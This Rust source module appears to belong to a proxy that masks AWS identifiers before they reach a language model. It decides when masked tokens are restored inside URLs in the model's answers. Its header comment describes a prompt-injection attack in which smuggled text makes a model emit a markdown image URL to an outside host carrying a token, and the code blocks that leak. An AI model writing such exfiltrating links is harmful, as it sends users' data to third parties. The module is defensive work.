//! Which tokens are restored inside URLs: `restore_in_urls`.
//!
//! Text that somebody smuggled into a prompt can make a model write `![](https://elsewhere.example/?q=AWS_EC2_001)`, and a
//! program that shows the answer would fetch it. So behind a host that is not known a token stays a token, unless the
//! application itself had that very value in a URL of that host in this request: then it tells nobody anything, and
//! the round trip holds.
//!
//! Known are the hosts that may be called, `url_hosts`, and AWS's own pages (the console, the documentation). The names
//! under AWS's domains that customers get (buckets, APIs, load balancers) are anybody's: a token in such a name is
//! restored, because it is the name of what it leads to, but not one in the path behind it.

use super::url::{SCHEMES, UrlPlace, UrlTracker};
use crate::detect::host;
use crate::host::HostPattern;
use crate::json::read::{self, Number, Place, View, Visitor};
use crate::json::shape::Shape;
use crate::token::Recogniser;
use alloc::collections::{BTreeMap, BTreeSet};
use alloc::string::String;
use alloc::sync::Arc;
use alloc::vec::Vec;

/// AWS's own pages: no customer can put anything of his own there.
const PAGES: [&str; 4] =
    ["aws.amazon.com", "console.amazonaws.cn", "console.amazonaws-us-gov.com", "aws.amazon.eu"];

/// What the configuration says of tokens in URLs.
#[derive(Debug)]
pub struct UrlPolicy {
    /// Hosts behind which tokens are restored; none with `never`.
    hosts: Option<Vec<HostPattern>>,
}

impl UrlPolicy {
    /// Restores behind these hosts and AWS's own.
    pub fn known(hosts: Vec<HostPattern>) -> Self {
        Self { hosts: Some(hosts) }
    }

    /// Restores nothing in URLs.
    pub fn never() -> Self {
        Self { hosts: None }
    }

    /// The tokens of a masked body that stand in URLs, if that matters.
    pub fn seen(&self, recogniser: &Recogniser, shape: &'static Shape, body: &[u8]) -> Seen {
        let mut seen = Seen::default();
        if self.hosts.is_some() && may_have_url(body) {
            // It was read before, and read back.
            let _ = read::document(body, shape, &mut Reader { recogniser, seen: &mut seen });
        }
        seen
    }

    fn knows(&self, host: &[u8]) -> bool {
        let (Some(hosts), Ok(host)) = (&self.hosts, core::str::from_utf8(host)) else { return false };
        let is_page =
            |page: &&str| host.strip_suffix(*page).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'));
        PAGES.iter().any(is_page) || hosts.iter().any(|pattern| pattern.matches(host))
    }
}

/// In the URLs of which hosts the tokens of a request stood.
#[derive(Clone, Debug, Default)]
pub struct Seen {
    hosts: BTreeSet<Arc<[u8]>>,
    tokens: BTreeMap<String, BTreeSet<Arc<[u8]>>>,
}

impl Seen {
    fn has(&self, token: &str, authority: &[u8]) -> bool {
        self.tokens.get(token).is_some_and(|hosts| hosts.contains(authority))
    }

    fn add(&mut self, token: String, authority: &[u8]) {
        let host = match self.hosts.get(authority) {
            Some(host) => Arc::clone(host),
            None => Arc::from(authority),
        };
        self.hosts.insert(Arc::clone(&host));
        self.tokens.entry(token).or_default().insert(host);
    }
}

/// What is restored inside the URLs of one answer.
#[derive(Clone, Debug)]
pub struct Urls {
    policy: Arc<UrlPolicy>,
    seen: Seen,
}

impl Urls {
    /// For the answer to a request in which tokens stood where `seen` says.
    pub fn new(policy: Arc<UrlPolicy>, seen: Seen) -> Self {
        Self { policy, seen }
    }

    /// True if `token` is restored in the URL whose host has just been read.
    pub(super) fn restores(&self, token: &str, url: &UrlTracker) -> bool {
        url.authority().is_empty()
            || self.seen.has(token, url.authority())
            || url.host().is_some_and(|host| self.policy.knows(host))
    }

    /// True if these tokens are restored, which stand where the host stands that has just been read.
    pub(super) fn restores_host(&self, tokens: &[String], url: &UrlTracker) -> bool {
        let whole = |token: &String| only(url.authority()).eq_ignore_ascii_case(token.as_bytes());
        tokens.iter().all(|token| self.restores(token, url))
            || (self.policy.hosts.is_some()
                && (url.host().is_some_and(host::is_of_aws) || matches!(tokens, [token] if whole(token))))
    }
}

/// An authority without its port and the brackets of IPv6.
fn only(authority: &[u8]) -> &[u8] {
    let mut parts = authority.splitn(2, |byte| *byte == b':');
    let host = parts.next().unwrap_or_default();
    let is_port = parts.next().is_none_or(|port| port.iter().all(u8::is_ascii_digit));
    let host = host.strip_prefix(b"[").and_then(|host| host.strip_suffix(b"]")).unwrap_or(host);
    if is_port { host } else { b"" }
}

/// False if no text in a body can have a URL in it, however deep in JSON in strings: most bodies need not be read again.
fn may_have_url(body: &[u8]) -> bool {
    const SLASHES: [&[u8]; 5] = [b"//", b"\\/", b"/\\", b"\\\\", b"\\u00"];
    let scheme = |colon: usize| {
        let before = body.get(..colon).unwrap_or_default();
        SCHEMES.iter().any(|scheme| {
            let Some((before, word)) = before.split_at_checked(colon.saturating_sub(scheme.len())) else {
                return false;
            };
            // A letter before it may be the one of an escape: `\nhttp:`.
            let begins =
                matches!(before, [.., b'\\', _]) || !before.last().is_some_and(u8::is_ascii_alphanumeric);
            begins && word.eq_ignore_ascii_case(scheme)
        })
    };
    // What `&` begins may be a slash or a colon of HTML.
    memchr::memchr(b'&', body).is_some()
        || SLASHES.iter().any(|slashes| memchr::memmem::find(body, slashes).is_some())
        || memchr::memchr_iter(b':', body).any(scheme)
        || memchr::memchr2_iter(b'w', b'W', body)
            .any(|at| body.get(at..at + 4).is_some_and(|four| four.eq_ignore_ascii_case(b"www.")))
}

struct Reader<'a> {
    recogniser: &'a Recogniser,
    seen: &'a mut Seen,
}

impl Visitor for Reader<'_> {
    fn text(&mut self, view: &View<'_>, from: usize, _place: &Place<'_>) {
        let mut url = UrlTracker::default();
        let (mut at, mut in_host) = (from, Vec::new());
        while let Some(found) = self.recogniser.find(view.text, at) {
            self.follow(&mut url, view.text.get(at..found.range.start), &mut in_host);
            match url.place() {
                UrlPlace::Outside => {}
                UrlPlace::Authority => in_host.push(found.token.clone()),
                UrlPlace::Rest => self.seen.add(found.token.clone(), url.authority()),
            }
            self.follow(&mut url, Some(found.token.as_bytes()), &mut in_host);
            at = found.range.end;
        }
        if !in_host.is_empty() {
            self.follow(&mut url, view.text.get(at..), &mut in_host);
            url.end();
            in_host.drain(..).for_each(|token| self.seen.add(token, url.authority()));
        }
    }

    fn number(&mut self, _number: Number<'_>, _place: &Place<'_>) {}
    fn fixed(&mut self, _view: &View<'_>) {}
    fn fixed_number(&mut self, _digits: &[u8], _at: usize) {}
    fn signed(&mut self) {}
}

impl Reader<'_> {
    fn follow(&mut self, url: &mut UrlTracker, text: Option<&[u8]>, in_host: &mut Vec<String>) {
        let mut rest = text.unwrap_or_default();
        while !rest.is_empty() {
            rest = rest.get(url.take(rest)..).unwrap_or_default();
            if url.place() != UrlPlace::Authority {
                in_host.drain(..).for_each(|token| self.seen.add(token, url.authority()));
            }
        }
    }
}
